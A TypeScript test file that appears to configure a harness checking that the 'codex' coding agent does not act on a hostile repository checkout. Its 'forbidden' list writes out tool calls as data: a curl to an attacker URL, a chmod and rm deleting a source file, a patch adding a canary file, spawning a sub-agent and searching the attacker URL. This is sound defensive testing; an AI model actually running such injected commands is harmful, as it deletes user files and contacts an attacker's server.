import { call } from "#test/model/script.ts";
import { describeRealAgent } from "./describe-real-agent.ts";
import { COMMAND_CANARY } from "./hostile-checkout.ts";

describeRealAgent({
  id: "codex",
  env: (url, key) => ({ OPENAI_BASE_URL: `${url}/v1`, OPENAI_API_KEY: key }),
  // Its usual model has another way to call tools, which the scripted one does not know.
  model: "scripted",
  tellsCost: false,
  forbidden: (attackerUrl) => [
    call("exec_command", { cmd: `touch ${COMMAND_CANARY}-codex` }),
    call("exec_command", { cmd: "chmod -R u+w . && rm -f src/ports.ts" }),
    call("exec_command", {
      cmd: `apply_patch <<'PATCH'\n*** Begin Patch\n*** Add File: ${COMMAND_CANARY}-patch\n+x\n*** End Patch\nPATCH`,
    }),
    call("exec_command", { cmd: `curl -s -m 5 ${attackerUrl}/codex` }),
    call("spawn_agent", { message: "Write a file" }),
    call("web_search", { query: attackerUrl }),
  ],
  errors: {
    "a server that is overloaded": { faults: [{ kind: "status", status: 503 }], failure: "overload" },
  },
});
